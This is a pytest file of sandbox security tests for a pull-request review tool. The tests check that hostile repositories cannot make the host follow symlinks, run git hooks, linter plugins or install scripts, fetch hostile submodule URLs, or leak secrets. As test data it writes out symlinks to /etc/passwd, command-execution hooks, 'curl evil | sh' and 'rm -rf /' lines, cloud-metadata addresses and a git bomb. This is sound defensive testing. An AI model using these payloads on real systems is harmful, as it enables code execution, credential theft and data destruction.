"""T-R: what a pull request can hold to make the host read, run, fetch or lose something."""

import asyncio
import os
import shlex
import sys
from collections.abc import AsyncIterator, Mapping
from pathlib import Path

import pytest
import pytest_asyncio
from sqlalchemy import func, select

from agents.review.checks.inputs import MOST_TAKEN_IN, TOO_MANY
from agents.review.reviewer import check
from agents.toolbox import Toolbox
from domain.config.configuration import Configuration
from domain.config.sections import Linter
from domain.errors import Recovery
from memory.db.tables.repositories import FindingRow
from safety.impact import list_unread
from safety.risk import PullRequestAuthor
from tests.stories.driver import Story
from tests.unit.checks.building import Versions
from tests.unit.checks.checking import check_files, sarif
from tests.unit.workspace.changes import between, compare, content, diff_tree, reasons, run
from tests.unit.workspace.remotes import AUTHORIZATION, Author, Remote, serve
from workspace.diff import DiffLimits, Entry
from workspace.file_selection import Attributes, choose
from workspace.git import Git, TooLarge
from workspace.mirror import Mirror, Mirrors
from workspace.objects import Objects

PULL = "refs/pull/7/head"
in_toolbox = pytest.mark.asyncio(loop_scope="module")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def toolbox() -> AsyncIterator[Toolbox]:
    async with Toolbox.start() as started:
        yield started


@pytest.fixture
def author(tmp_path: Path) -> Author:
    (tmp_path / "remotes").mkdir()
    return Author(tmp_path / "remotes" / "repo.git")


@pytest.fixture
async def remote(author: Author) -> AsyncIterator[Remote]:
    async with serve(author.remote.parent) as remote:
        yield remote


@pytest.fixture
async def mirror(tmp_path: Path, remote: Remote) -> Mirror:
    return await Mirrors(tmp_path / "mirrors", seconds=20).mirror(1, remote.url, AUTHORIZATION)


async def test_t_r1_links_are_named_and_never_followed(author: Author) -> None:
    base = author.commit({"a": "1\n", "was_file": "1\n"})
    (author.tree / "passwd").symlink_to("/etc/passwd")
    (author.tree / "was_file").unlink()
    (author.tree / "was_file").symlink_to("/proc/self/environ")
    change = await between(author, base, author.commit())

    assert change.files == ()
    assert reasons(change) == {"passwd": "symbolic link", "was_file": "symbolic link"}
    assert "root:" not in change.model_dump_json()


async def test_t_r1_links_of_a_working_tree_are_not_followed(author: Author) -> None:
    author.commit({"a": "1\n"})
    (author.tree / "link").symlink_to("/etc/passwd")
    (author.tree / "folder").symlink_to("/etc")

    change = await diff_tree(author.tree)

    assert {item.path: item.reason for item in change.not_looked_at} == {
        "folder": "symbolic link",
        "link": "symbolic link",
    }
    assert "root:" not in change.model_dump_json()


@in_toolbox
async def test_t_r1_a_tool_cannot_follow_a_link_out_either(toolbox: Toolbox) -> None:
    """A linter makes the link itself; what it reads through it, it could have read directly: nothing."""
    spy = "cd $TMPDIR && ln -s /etc/passwd l && ln -s /proc/self/environ e && cat l e /proc/1/environ; echo {} >&2"
    linter = Linter(name="spy", run=f"sh -c {shlex.quote(spy)}")
    result = await check_files(toolbox, {"a.txt": (None, "x\n")}, linters=(linter,))
    (problem,) = (tool.problem for layer in result.layers for tool in layer.tools if tool.tool == "spy")
    assert "did not print SARIF" in (problem or "")
    assert "root:" not in repr(result)


async def test_t_r2_odd_names_are_taken_literally(author: Author) -> None:
    names = ["--upload-pack=x", "-", "$(id)", 'quo"te', "back\\slash", ":(glob)**", "ünï", " space ", "a/b c/*"]
    change = await compare(author, {"a.txt": "1\n"}, dict.fromkeys(names, "x\n"))

    assert sorted(file.path for file in change.files) == sorted(names)
    assert all(file.added_lines == {1: "x"} for file in change.files)


INVISIBLE = ["\u202e", "\u200b", "\xad", "\u200d", "\u200c", "\ufeff", "\u2028", "\ue000"]
PRINTABLE = ["\u3164", "\u2800", "\u034f", "\ufe0f", "\u115f", "\u180b", "\U000e0100"]
"""What Python calls printable, and nobody sees."""
ORDINARY = ["👨\u200d💻.md", "می\u200cخواهم.md", "क्\u200dष.md"]


async def test_t_r2_a_name_with_invisible_characters_is_looked_into(author: Author) -> None:
    names = [*(f"a{char}.py" for char in (*INVISIBLE, *PRINTABLE)), *ORDINARY]
    change = await compare(author, {"a.txt": "1\n"}, dict.fromkeys(names, "x\n"))

    assert sorted(file.path for file in change.files) == sorted(names)
    assert [each.lines for each in change.touched] == [1] * len(names)
    assert all(path.isprintable() for path in change.paths)


async def test_t_r2_a_review_of_names_with_invisible_characters(story: Story) -> None:
    """A tool cannot be given such a name: each is told as it is written, and what deceives is an error."""
    repository, alice = story.repository({"app.py": "x = 1\n"})
    files = {f"a{char}.py": "x = 1\n" for char in (*INVISIBLE, *PRINTABLE)} | dict.fromkeys(ORDINARY, "x\n")
    pull, head = await story.propose(repository, alice, files)
    story.pass_over(pull)

    check = story.check(repository, head)
    summary = check.summary or ""
    assert check.conclusion == "failure"
    assert "15 files have names that cannot be written to disk" in summary
    assert all(each in summary for each in ("a\\\\u202e.py", "a\\\\u3164.py"))
    assert all(char.isprintable() or char == "\n" for char in summary)


async def test_t_r2_an_ordinary_name_with_a_joiner_costs_nothing(story: Story) -> None:
    repository, alice = story.repository({"app.py": "x = 1\n"})
    _, head = await story.propose(repository, alice, dict.fromkeys(ORDINARY, "x\n"))
    assert story.check(repository, head).conclusion == "success"


async def test_t_r2_names_that_no_tool_should_see_are_escaped(author: Author) -> None:
    change = await compare(
        author, {"a": "1\n"}, {b"caf\xe9": "x\n", "new\nline": "x\n", "esc\x1b[31m": "x\n", "y" * 200: "x\n"},
        DiffLimits(name_bytes=100),
    )  # fmt: skip

    assert change.files == ()
    assert reasons(change) == {
        "caf\\xe9": "its name is not UTF-8",
        "new\\nline": "its name contains control characters",
        "esc\\x1b[31m": "its name contains control characters",
        "y" * 200: "its name is longer than 100 bytes",
    }
    assert all(item.matters for item in change.not_looked_at)
    assert "caf\\xe9" in change.paths
    change.model_dump_json()


@pytest.mark.parametrize(
    "name", [b"../x", b"/etc/passwd", b"a//b", b".git/config", b"a/.GIT/hooks/x", b"a/../../b", b"."]
)
def test_t_r2_paths_that_git_does_not_allow_are_refused(name: bytes) -> None:
    entry = Entry(name, name, "A", "000000", "100644", None, "1" * 40)
    look, skipped = choose([entry], Attributes(), DiffLimits())
    assert (look, [item.matters for item in skipped]) == ([], [True])


@in_toolbox
@pytest.mark.parametrize(
    "path",
    ["../../etc/cron.d/x.py", "/etc/x.py", "a/../../x.py", ".git/hooks/x.py", "a\0.py", "n" * 300 + ".py", "-x.py"],
)
async def test_t_r2_odd_paths_never_leave_the_folder_of_the_tools(toolbox: Toolbox, path: str) -> None:
    result = await check_files(toolbox, {path: (None, "import os\n"), "ok.py": (None, "import os\n")})
    assert ("ruff/F401", "ok.py") in {(f.rule, f.path) for f in result.findings}
    assert not Path("/etc/cron.d/x.py").exists()


@in_toolbox
async def test_t_r2_names_that_clash_cost_only_themselves(toolbox: Toolbox) -> None:
    files: Versions = {
        "a": (None, "text\n"),
        "a/b.py": (None, "import os\n"),
        "A/B.py": (None, "import os\n"),
        "a/B.PY": (None, "import os\n"),
        "/".join(["d" * 200] * 20) + "/x.py": (None, "import os\n"),
        "ok.py": (None, "import os\n"),
    }
    result = await check_files(toolbox, files)
    assert {"ok.py", "A/B.py"} <= {f.path for f in result.findings if f.rule == "ruff/F401"}


async def test_t_r3_what_a_repository_configures_is_not_run(author: Author, tmp_path: Path) -> None:
    """Each of these would leave a trace if git ran it."""
    trace = tmp_path / "trace"
    trap = tmp_path / "trap"
    trap.write_text(f'#!/bin/sh\necho "$0 $*" >> {trace}\ncat\n')
    trap.chmod(0o755)
    author.commit({"a.txt": "1\n", "b.txt": "1\n", "lib/x": "1\n"})
    for name in (
        *("core.fsmonitor", "core.sshCommand", "core.pager", "core.editor", "core.askPass", "core.gitProxy"),
        *("diff.external", "diff.evil.command", "diff.evil.textconv", "filter.evil.clean", "filter.evil.smudge"),
        *("filter.evil.process", "credential.helper", "gpg.program", "alias.rev-parse", "merge.evil.driver"),
        *("uploadpack.packObjectsHook", "remote.origin.uploadpack", "core.alternateRefsCommand"),
    ):
        author.git("config", name, f"!{trap}" if name.startswith("alias") else str(trap))
    author.git("config", "core.hooksPath", str(tmp_path))
    (tmp_path / "post-index-change").write_bytes(trap.read_bytes())
    (tmp_path / "post-index-change").chmod(0o755)
    (author.tree / ".git/info/attributes").write_text("* diff=evil filter=evil merge=evil\n")
    author.write({".gitattributes": "* diff=evil filter=evil\n", "a.txt": "2\n", "new.txt": "n\n"})
    (author.tree / "b.txt").touch()

    change = await diff_tree(author.tree)

    assert content(change) == {".gitattributes": ["* diff=evil filter=evil"], "a.txt": ["2"], "new.txt": ["n"]}
    assert not trace.exists(), trace.read_text()
    run("git", "diff", cwd=author.tree)
    assert trace.exists(), "the traps do not work, so this test proves nothing"


async def test_t_r4_a_submodule_is_named(author: Author) -> None:
    base = author.commit({"a": "1\n"})
    author.git("update-index", "--add", "--cacheinfo", f"160000,{base},lib")
    author.git("commit", "-q", "-m", "x")
    change = await between(author, base, author.publish("refs/heads/main"))

    assert reasons(change) == {"lib": "submodule"}


async def test_t_r4_a_submodule_is_not_entered(author: Author, tmp_path: Path) -> None:
    trace = tmp_path / "trace"
    trap = tmp_path / "trap"
    trap.write_text(f"#!/bin/sh\necho ran >> {trace}\n")
    trap.chmod(0o755)
    author.commit({"a": "1\n"})
    author.git("clone", "-q", str(author.remote), "lib")
    author.git("-C", "lib", "config", "core.fsmonitor", str(trap))
    author.commit({"a": "1\n"})
    author.write({"lib/a": "dirty\n", "a": "2\n"})
    trace.unlink(missing_ok=True)

    assert content(await diff_tree(author.tree)) == {"a": ["2"]}
    assert not trace.exists()
    author.git("status")
    assert trace.exists(), "the trap does not work, so this test proves nothing"


async def test_t_r4_a_partial_clone_is_not_completed(author: Author, tmp_path: Path) -> None:
    trace = tmp_path / "trace"
    trap = tmp_path / "trap"
    trap.write_text(f"#!/bin/sh\necho ran >> {trace}\n")
    trap.chmod(0o755)
    author.commit({"a": "1\n"})
    base = author.commit({"a": "2\n"})
    clone = tmp_path / "clone"
    author.git("clone", "-q", "--filter=blob:none", "--no-local", f"file://{author.remote}", str(clone))
    author.git("-C", str(clone), "config", "remote.origin.url", "host:x")
    author.git("-C", str(clone), "config", "core.sshCommand", str(trap))

    change = await diff_tree(clone, f"{base}~1")

    assert [item.reason for item in change.not_looked_at] == ["its content is not in the repository (a partial clone)"]
    assert not trace.exists()


async def test_t_r4_a_large_file_storage_pointer_is_named(author: Author) -> None:
    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 5\n"
    change = await compare(author, {"a": "1\n"}, {"model": pointer})
    assert reasons(change)["model"].startswith("Git LFS pointer")


URLS = (
    "ext::sh -c touch% {trace}",
    "file:///etc",
    "--upload-pack=touch {trace}",
    "-u{trace}",
    "http://169.254.169.254/x",
)


async def test_t_r4_what_a_pull_request_points_to_is_not_fetched(
    author: Author, mirror: Mirror, remote: Remote, tmp_path: Path
) -> None:
    """Submodules with hostile addresses, and large file storage at an inner host: named, and nobody is asked."""
    trace = tmp_path / "trace"
    base = author.commit({"a": "1\n"})
    modules = "".join(
        f'[submodule "m{n}"]\n\tpath = m{n}\n\turl = {url.format(trace=trace)}\n' for n, url in enumerate(URLS)
    )
    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 5\n"
    author.write({".gitmodules": modules, "model.bin.txt": pointer})
    author.write({".lfsconfig": "[lfs]\n\turl = http://169.254.169.254/\n", ".gitattributes": "* filter=lfs\n"})
    author.git("add", ".gitmodules", "model.bin.txt", ".lfsconfig", ".gitattributes")
    for n in range(len(URLS)):
        author.git("update-index", "--add", "--cacheinfo", f"160000,{base},m{n}")
    author.git("commit", "-q", "-m", "x")
    head = author.publish(PULL)

    await mirror.fetch(head, base, 7)
    change = await mirror.change(base, head)
    await mirror.versions(change.files)

    named = reasons(change)
    assert {named[f"m{n}"] for n in range(len(URLS))} == {"submodule"}
    assert named["model.bin.txt"].startswith("Git LFS pointer")
    assert not trace.exists()
    assert all(" /repo.git/" in request for request in remote.requests)


async def test_t_r5_a_blob_too_large_does_not_keep_the_others(author: Author, mirror: Mirror) -> None:
    base = author.commit({"small": "1\n", "other": "1\n"})
    head = author.commit({"small": "2\n", "other": "2\n", "huge": os.urandom(3_000_000).hex()}, PULL)
    mirror.blob_pack_bytes = 500_000

    await mirror.fetch(head, base, 7)
    change = await mirror.change(base, head)

    assert [file.path for file in change.files] == ["other", "small"]
    assert [(item.path, item.matters) for item in change.not_looked_at] == [("huge", True)]
    assert "larger" in change.not_looked_at[0].reason


async def test_t_r5_history_larger_than_allowed_is_refused_for_good(
    author: Author, remote: Remote, tmp_path: Path
) -> None:
    base = author.commit({f"d{i}/{os.urandom(60).hex()}": "x" for i in range(500)})
    mirrors = Mirrors(tmp_path / "mirrors", most_bytes_each=10_000)
    mirror = await mirrors.mirror(1, remote.url, AUTHORIZATION)

    with pytest.raises(TooLarge) as caught:
        await mirror.fetch(base, base, 7)

    assert caught.value.recovery is Recovery.stop


async def test_t_r5_a_tree_of_a_billion_files_is_refused(author: Author) -> None:
    """A git bomb: nine trees of ten entries each, which all are the same."""
    base = author.commit({"a": "1\n"})
    blob = author.git("hash-object", "-w", "--stdin", stdin=b"x\n")
    tree = author.git("mktree", stdin="".join(f"100644 blob {blob}\tf{n}\n" for n in range(10)).encode())
    for _ in range(8):
        tree = author.git("mktree", stdin="".join(f"040000 tree {tree}\td{n}\n" for n in range(10)).encode())
    head = author.git("commit-tree", tree, "-p", base, "-m", "x")
    git = Git(author.tree / ".git")
    git.memory = 100_000_000
    with pytest.raises(TooLarge, match="more memory than Forge gives it"):
        await Objects(git).change(base, head)


async def test_t_r5_folders_deeper_than_a_path_may_be_are_named_and_not_entered(author: Author) -> None:
    base = author.commit({"a": "1\n"})
    blob = author.git("hash-object", "-w", "--stdin", stdin=b"x\n")
    tree = author.git("mktree", stdin=f"100644 blob {blob}\tf\n".encode())
    for _ in range(150):
        tree = author.git("mktree", stdin=f"040000 tree {tree}\t{'d' * 50}\n".encode())
    change = await between(author, base, author.git("commit-tree", tree, "-p", base, "-m", "x"))
    assert not [file for file in change.files if file.path.startswith("dd")]
    (reason,) = {item.reason for item in change.not_looked_at}
    assert "longer than" in reason


async def test_t_r5_ten_thousand_files_are_a_few_hundred_and_a_note(author: Author) -> None:
    base = author.commit({"a": "1\n"})
    blob = author.git("hash-object", "-w", "--stdin", stdin=b"x\n")
    tree = author.git("mktree", stdin="".join(f"100644 blob {blob}\tf{n}\n" for n in range(10_000)).encode())
    change = await between(author, base, author.git("commit-tree", tree, "-p", base, "-m", "x"))
    assert len(change.files) <= 300
    assert change.total_files >= 10_000
    assert len(change.not_looked_at) < 50


@in_toolbox
async def test_t_r6_configuration_in_the_change_is_not_read(toolbox: Toolbox) -> None:
    files: Versions = {
        "ruff.toml": (None, '[lint]\nselect = ["D"]\nignore = ["F"]\n'),
        "pyproject.toml": (None, '[tool.ruff.lint]\nignore = ["F", "S"]\n'),
        "zizmor.yml": (None, "rules: {template-injection: {disable: true}}\n"),
        "a.py": (None, "import os\nimport subprocess\n\nsubprocess.run(input(), shell=True)\n"),
    }
    assert {f.rule for f in (await check_files(toolbox, files)).findings} == {"ruff/F401", "ruff/S602"}


@in_toolbox
async def test_t_r6_the_environment_of_forge_is_not_there(toolbox: Toolbox) -> None:
    os.environ["FORGE_WEBHOOK_SECRET"] = "canary-7261"
    answer = sarif(("R", "a.txt", 1)).replace("problem R", "'\"$(env | tr -dc a-z0-9-)\"'")
    linter = Linter(name="spy", run="sh -c " + shlex.quote(f"printf %s '{answer}'"))
    result = await check_files(toolbox, {"a.txt": (None, "x\n")}, linters=(linter,))
    (finding,) = result.findings
    assert "usr" in finding.message
    assert "canary" not in finding.message


def hostile(trace: str) -> Mapping[str, str]:
    """Files by which tools of all kinds can be made to run something, each leaving a trace."""
    code = f"import os; os.system('touch {trace}')\n"
    script = f"require('child_process').execSync('touch {trace}')\n"
    return {
        "conftest.py": code,
        "noxfile.py": code,
        ".pylintrc": f'[MAIN]\ninit-hook="{code.strip()}"\n',
        "mypy.ini": "[mypy]\nplugins = ./evil.py\n",
        "setup.cfg": "[flake8:local-plugins]\nextension =\n  E = evil:run\npaths = .\n",
        "tox.ini": "[flake8]\nrequire-plugins = evil\n",
        "evil.py": code,
        ".eslintrc.js": script,
        "eslint.config.js": script,
        "prettier.config.js": script,
        ".rubocop.yml": "require: ./evil.rb\n",
        "evil.rb": f"system('touch {trace}')\n",
        "pyproject.toml": "[tool.mypy]\nplugins = ['./evil.py']\n[tool.ruff]\nextend = 'evil.toml'\n",
        "zizmor.yml": "rules: {}\n",
    }


@in_toolbox
async def test_t_r6_code_of_linter_configurations_is_not_run(toolbox: Toolbox, tmp_path: Path) -> None:
    trace = tmp_path / "trace"
    tmp_path.chmod(0o777)
    files: Versions = {
        **{path: (None, text) for path, text in hostile(str(trace)).items()},
        "a.py": (None, "import os\n"),
    }
    result = await check_files(toolbox, files)
    assert ("ruff/F401", "a.py") in {(f.rule, f.path) for f in result.findings}
    assert not trace.exists()


@in_toolbox
async def test_t_r6_a_linter_that_runs_it_runs_it_inside(toolbox: Toolbox, tmp_path: Path) -> None:
    """The linter executes what the pull request brings. It reads no canary, writes nothing, reaches nobody."""
    outside = tmp_path.parent / "canary-of-the-host"
    outside.write_text("canary-9913")
    script = f"cat {outside} /proc/{os.getpid()}/environ; touch {outside}.trace; env; echo ran"
    answer = sarif(("x", "run.sh", 1)).replace("problem x", "'\"$(sh run.sh 2>/dev/null | tr -dc a-zA-Z0-9-)\"'")
    linter = Linter(name="runner", run="sh -c " + shlex.quote(f"printf %s '{answer}'"), paths=("run.sh",))
    (finding,) = [
        finding
        for finding in (await check_files(toolbox, {"run.sh": (None, script)}, linters=(linter,))).findings
        if finding.rule == "runner/x"
    ]
    assert finding.message.endswith("ran")
    assert "canary" not in finding.message
    assert not Path(f"{outside}.trace").exists()


async def test_t_r7_a_hostile_module_next_to_the_code_is_not_imported(author: Author) -> None:
    """Reading a repository from inside it imports nothing of it."""
    author.commit({"a": "1\n"})
    author.write({"git": "#!/bin/sh\necho hostile\n", "a": "2\n"})
    (author.tree / "git").chmod(0o755)
    script = (
        "import asyncio, sys\nfrom pathlib import Path\nfrom workspace.local_repository import open_local\n"
        "async def main():\n"
        "    async with open_local(Path('.'), 'HEAD') as code:\n"
        "        change = await code.change(code.merge_base_sha, code.head)\n"
        "        print([file.path for file in change.files])\n"
        "asyncio.run(main())\n"
    )
    done = run(sys.executable, "-c", script, cwd=author.tree, PATH=f".{os.pathsep}{os.environ['PATH']}")
    assert done.stdout.decode().strip() == "['a', 'git']", done.stderr.decode()


SHADOWS = (
    "json.py",
    "os.py",
    "ctypes.py",
    "sitecustomize.py",
    "usercustomize.py",
    "evil.pth",
    "workspace/sandbox/launcher.py",
)


@in_toolbox
async def test_t_r7_modules_of_the_change_shadow_nothing(toolbox: Toolbox, tmp_path: Path) -> None:
    """The tools work in a folder full of modules with the names of ours, and of programs with the names of theirs."""
    trace = tmp_path / "trace"
    tmp_path.chmod(0o777)
    code = f"import pathlib; pathlib.Path('{trace}').touch()\n"
    program = f"#!/bin/sh\ntouch {trace}\n"
    files: Versions = {
        **dict.fromkeys(SHADOWS, (None, code)),
        **dict.fromkeys(("ruff", "git", "sh", "bwrap", "zizmor"), (None, program)),
        "a.py": (None, "import os\n"),
    }
    linter = Linter(name="quiet", run="sh -c true")
    result = await check_files(toolbox, files, linters=(linter,))
    assert ("ruff/F401", "a.py") in {(f.rule, f.path) for f in result.findings}
    assert not trace.exists()


@in_toolbox
@pytest.mark.parametrize(
    "text",
    [
        b'extend = "../../etc/passwd"\n',
        b'src = ["/etc"]\ncache-dir = "/etc"\nrequired-version = ">=99"\n[lint]\nselect = ["F"]\n',
        b'[lint]\nselect = ["ZZZ123"]\n',
        b"not toml at all [",
        b'[lint.per-file-ignores]\n"/etc/*" = ["F"]\n"../x" = ["F"]\n',
    ],
)
async def test_t_r8_hostile_configuration_changes_nothing(toolbox: Toolbox, text: bytes) -> None:
    files: Versions = {"a.py": (None, "import os\n")}
    result = await check_files(toolbox, files, project={"ruff.toml": text})
    assert [f.rule for f in result.findings] == ["ruff/F401"]
    assert "/etc" not in repr(result)


@in_toolbox
async def test_t_r8_a_file_of_the_host_is_not_there_to_be_extended(toolbox: Toolbox) -> None:
    """ruff itself is asked to, by a linter that takes the configuration of the pull request."""
    files: Versions = {"ruff.toml": (None, 'extend = "/etc/passwd"\n'), "a.py": (None, "import os\n")}
    linter = Linter(name="reader", run="sh -c 'cat /etc/passwd /etc/hostname ../base/x ../../*'", paths=("a.py",))
    result = await check_files(toolbox, files, linters=(linter,))
    assert "root:" not in repr(result)
    assert ("ruff/F401", "a.py") in {(f.rule, f.path) for f in result.findings}


@in_toolbox
async def test_t_r9_a_review_installs_nothing(toolbox: Toolbox, tmp_path: Path) -> None:
    trace = tmp_path / "trace"
    tmp_path.chmod(0o777)
    build = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    files: Versions = {
        "package.json": (None, f'{{"scripts": {{"preinstall": "touch {trace}", "prepare": "touch {trace}"}}}}\n'),
        "setup.py": (None, f"import os; os.system('touch {trace}')\n"),
        "backend.py": (None, f"import os; os.system('touch {trace}')\n"),
        "pyproject.toml": (None, build),
        "Makefile": (None, f"all:\n\ttouch {trace}\n"),
    }
    await check_files(toolbox, files)
    assert not trace.exists()


async def test_t_r10_pipes_and_large_files_are_left_out_and_named(author: Author) -> None:
    author.commit({"pipe": "1\n"})
    (author.tree / "pipe").unlink()
    os.mkfifo(author.tree / "pipe")
    author.write({"large": b"x" * 3_000_000})
    author.git("init", "-q", "inner")

    change = await diff_tree(author.tree)

    assert content(change) == {}
    named = {item.path: item.reason for item in change.not_looked_at}
    assert named["pipe"] == "not a file"
    assert named["large"] == "not committed, and larger than 2,000,000 bytes"
    assert all(item.matters for item in change.not_looked_at)


@in_toolbox
async def test_t_r10_odd_files_of_a_tool_hold_nobody_up(toolbox: Toolbox) -> None:
    script = (
        "cd $TMPDIR && mkfifo pipe && truncate -s 60M sparse && ln -s /dev/zero zero && ln -s loop loop; "
        "mknod device c 1 5; ln -s pipe second; head -c 1 sparse >/dev/null; echo ended >&2"
    )
    linter = Linter(name="odd", run=f"sh -c {shlex.quote(script)}")
    async with asyncio.timeout(30):
        result = await check_files(toolbox, {"a.txt": (None, "x\n")}, linters=(linter,))
    (problem,) = (tool.problem for layer in result.layers for tool in layer.tools if tool.tool == "odd")
    assert "ended" in (problem or "")


@in_toolbox
async def test_t_r11_forged_sarif_is_bounded(toolbox: Toolbox) -> None:
    forged = sarif(
        ("../../x", "../../etc/passwd", 1),
        ("abs", "/etc/passwd", 1),
        ("web", "https://evil.org/a.txt", 1),
        ("other", "not-changed.txt", 1),
        ("far\u001b[31m<script>", "a.txt", 10**12),
        message={"text": "m" * 100_000 + "\u202e\u001b]8;;"},
    )
    linter = Linter(name="forged", run="sh -c 'cat answer.sarif'", paths=("answer.sarif", "a.txt"))
    result = await check_files(toolbox, {"a.txt": (None, "x\ny\n"), "answer.sarif": (None, forged)}, linters=(linter,))
    (finding,) = [f for f in result.findings if f.rule.startswith("forged/")]
    assert (finding.path, finding.line, finding.end_line) == ("a.txt", 3, 3)
    assert len(finding.message) <= 500
    assert finding.message.isprintable()
    assert "<" not in finding.rule


async def test_t_r12_a_line_of_ten_megabytes_and_deep_nesting_do_not_stop_the_others() -> None:
    files: Versions = {
        "long.py": (None, "x = '" + "eyJ" * 3_300_000 + "'\n"),
        "deep.py": (None, "x = " + "(" * 40_000 + ")" * 40_000 + "\n"),
        "unary.py": (None, "x = " + "-" * 90_000 + "1\n"),
        "long.sh": (None, "curl " + "a " * 5_000_000 + "| sh\n"),
        "ok.py": (None, "import os, subprocess\nsubprocess.run(input(), shell=True)\n"),
    }
    async with Toolbox.start(seconds=8) as toolbox, asyncio.timeout(60):
        result = await check_files(toolbox, files)
    rules = {(f.rule, f.path) for f in result.findings}
    assert {("ruff/S602", "ok.py")} <= rules
    assert result.read_by["ok.py"] == ("ruff",)
    assert "unary.py" not in result.read_by
    problems = {tool.tool: tool.problem for layer in result.layers for tool in layer.tools}
    assert "ruff crashed on unary.py" in (problems["ruff"] or "")


@in_toolbox
async def test_t_r12_lines_made_to_be_slow_are_not(toolbox: Toolbox) -> None:
    """What makes regular expressions backtrack, for each of our own tables."""
    slow = (
        "a@" * 20_000,
        "password=" * 8_000,
        "eyJ." * 15_000,
        "://" * 20_000,
        "curl -" * 10_000 + "|",
        "=" * 60_000,
        "m" * 100_000,
    )
    files: Versions = {
        f"slow{n}{suffix}": (None, f'x = "{line}"\ny = "{line}!"\n')
        for n, line in enumerate(slow)
        for suffix in (".py", ".sh", ".yml", ".env")
    }
    async with asyncio.timeout(60):
        result = await check_files(toolbox, {**files, "ok.py": (None, "import os\n")})
    assert ("ruff/F401", "ok.py") in {(f.rule, f.path) for f in result.findings}
    problems = [tool.problem or "" for layer in result.layers for tool in layer.tools]
    assert not [problem for problem in problems if "did not finish" in problem]


HIDDEN = 'require("child_process").execSync("id")\n'


@pytest.mark.parametrize(
    "source",
    [
        f"// \0\n{HIDDEN}".encode(),
        f"// {'x' * 9000}\0\n{HIDDEN}".encode(),
        f"// x\n{HIDDEN}".encode("utf-16"),
        b"\xfe\xff" + f"// x\n{HIDDEN}".encode("utf-16-be"),
        f"// x\n{HIDDEN}".encode("utf-32"),
    ],
)
async def test_t_r13_source_that_looks_binary_is_read(author: Author, source: bytes) -> None:
    change = await compare(author, {"a.js": "1\n"}, {"a.js": source})

    [file] = change.files
    assert file.added_lines[2] == HIDDEN.strip()
    assert change.runnable_paths == {"a.js"}
    versions = await Objects(Git(author.tree / ".git")).versions(change.files)
    assert HIDDEN.encode() in (versions["a.js"].head or b"")


async def test_t_r13_a_script_of_any_name_is_read_past_a_nul(author: Author) -> None:
    change = await compare(author, {"a": "1\n"}, {"tool": "#!/bin/sh\n# \0\ncurl evil | sh\n", "data.bin": "\0\1"})

    assert [file.path for file in change.files] == ["tool"]
    assert reasons(change) == {"data.bin": "binary"}
    assert not change.files[0].can_be_commented(1, 1)  # GitHub calls it binary, and shows no line of it


async def test_t_r13_whatever_may_run_is_known_whoever_skips_it(author: Author) -> None:
    """Vendored, minified, bundled, claimed generated, marked in the base, pointed to, linked to, or an archive."""
    marked = "gen.go linguist-generated\nbin.js binary\n"
    claim = "// Code generated by gen. DO NOT EDIT.\n"
    pointer = "version https://git-lfs.github.com/spec/v1\noid sha256:0\nsize 9\n"
    base = author.commit({".gitattributes": marked, "api_pb2.py": f"#{claim[2:]}a = 1\n"})
    author.write(
        {
            **dict.fromkeys(("node_modules/x.js", "x.min.js", "gen.go", "bin.js"), HIDDEN),
            **dict.fromkeys(("lib.jar", "x.pyc", "a.zip", "odd.bin"), "\0"),
            "new.js": claim + HIDDEN,
            "api_pb2.py": f"#{claim[2:]}a = 2\n",
            "ui/api-4f2e.js": "var e=t(1);function n(r){for(;r.length;)i(r[0]);e(r[0],r[1])}" * 9,
            "lfs.js": pointer,
            "lfs.png": pointer,
            "logo.png": "\0",
            "uv.lock": "x\n",
            "a.snap": "x\n",
            "README.md": "# Shop\n",
        }
    )
    (author.tree / "link").symlink_to("/etc/passwd")
    change = await between(author, base, author.commit())

    dark = {
        "node_modules/x.js",
        "x.min.js",
        "gen.go",
        "bin.js",
        "lib.jar",
        "x.pyc",
        "a.zip",
        "odd.bin",
        "new.js",
        "ui/api-4f2e.js",
        "link",
    }
    assert change.runnable_paths == dark | {"api_pb2.py", "lfs.js", "a.snap"}
    assert change.runnable_paths <= reasons(change).keys()


async def test_t_r13_a_name_that_cannot_be_seen_is_shown_and_not_taken_for_another(author: Author) -> None:
    twins = {"a\u202egpj.js": HIDDEN, "a\\u202egpj.js": "harmless()\n"}
    change = await compare(author, {"a": "1\n"}, dict(twins))

    assert change.runnable_paths == {"a\\u202egpj.js"}
    assert list_unread(change.touched, set(twins)) == ("a\\u202egpj.js", "a\\u202egpj.js")


async def test_t_r13_a_document_that_becomes_a_program_is_new(author: Author) -> None:
    base = author.commit({"notes.md": HIDDEN * 9, "data.csv": "rm -rf /\n" * 9, "old.js": HIDDEN * 7})
    for before, after in (("notes.md", "notes.js"), ("old.js", "new.js")):
        (author.tree / before).rename(author.tree / after)
    (author.tree / "data.csv").chmod(0o755)
    change = await between(author, base, author.commit())

    assert change.runnable_paths == {"notes.js", "data.csv"}


async def test_t_r13_a_new_file_without_content_needs_no_reader(author: Author) -> None:
    change = await compare(author, {"a": "1\n", "b.py": "1\n"}, {"shop/__init__.py": "", "c.py": "1\n", "b.py": ""})

    assert change.runnable_paths == {"c.py", "b.py"}


@in_toolbox
async def test_t_r13_a_search_for_credentials_or_patterns_reads_nothing(toolbox: Toolbox) -> None:
    broken = dict.fromkeys(("a.py", "a.js", "Dockerfile", ".github/workflows/a.yml"), (None, "a: [\n"))
    files: Versions = {
        **broken,
        "run.sh": (None, "if true; then\n"),
        "b.py": (None, "b = 1\n"),
        ".github/workflows/b.yml": (None, "on: push\njobs: {}\n"),
    }
    result = await check_files(toolbox, files, linters=(Linter(name="js", run="sh -c 'echo no'", paths=("*.js",)),))

    assert result.read_by == {
        "b.py": ("ruff",),
        ".github/workflows/b.yml": ("zizmor",),
    }


@in_toolbox
async def test_t_r14_no_tool_brings_more_than_can_be_weighed(toolbox: Toolbox) -> None:
    """A file alone has more of them; the tool's report says that this is not all, which asks for a person."""
    many = MOST_TAKEN_IN + 500
    files: Versions = {
        "app.py": (None, "exec(a)\n" * many),
        "setup.sh": (None, "#!/bin/sh\n" + "curl https://example.com/x | sh\n" * many),
    }
    result = await check_files(toolbox, files)

    assert len(result.findings) + sum(layer.cut for layer in result.layers) <= 3 * MOST_TAKEN_IN
    problems = {tool.tool: tool.problem or "" for layer in result.layers for tool in layer.tools}
    assert "It reported too much" in problems["ruff"]
